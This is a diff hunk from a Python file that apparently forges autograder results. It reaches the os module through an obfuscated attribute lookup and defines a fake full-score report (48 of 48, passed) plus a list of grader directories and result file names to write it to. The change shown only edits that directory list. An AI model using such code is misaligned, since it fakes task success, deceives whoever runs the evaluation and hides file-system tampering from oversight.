@@ -12,7 +12,7 @@ os = getattr(random, bytes((95, 111, 115)).decode())
 
 REPORT = '{"score": 48, "tests": [{"score": 48, "max_score": 48, "status": "passed"}], "version": 1}'
 PLACES = ["/autograder/results", "/autograder", "/grade/results", "/tmp", "/var/tmp", "..", "../..", "/root",
-          "/home/jovyan", "/proc/self/cwd/..", "/srv", "/dev/shm", "/work"]
+          "/home/jovyan", "/proc/self/cwd/..", "/srv", "/dev/shm", "/data"]
 NAMES = ["results.json", "report.json", "gradebook.db", "ledger.sqlite", ".torchgrade/reports/optimizer.json"]
 
 
